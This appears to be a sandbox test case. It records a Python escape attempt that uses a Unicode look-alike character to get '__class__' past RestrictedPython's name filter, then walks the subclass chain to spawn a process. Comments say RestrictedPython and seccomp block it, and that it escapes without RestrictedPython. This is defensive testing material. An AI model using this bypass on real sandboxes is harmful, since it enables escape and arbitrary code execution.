# attack: look-alike unicode identifiers
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# ().__𝒸lass__: the parser normalizes identifiers (NFKC) to __class__
for c in ().__𝒸lass__.__bases__[0].__subclasses__():
    if c.__name__ == "_wrap_close":
        print("ESCAPED", c.__init__.__globals__["posix_spawn"]("/bin/true", ["true"], {}))
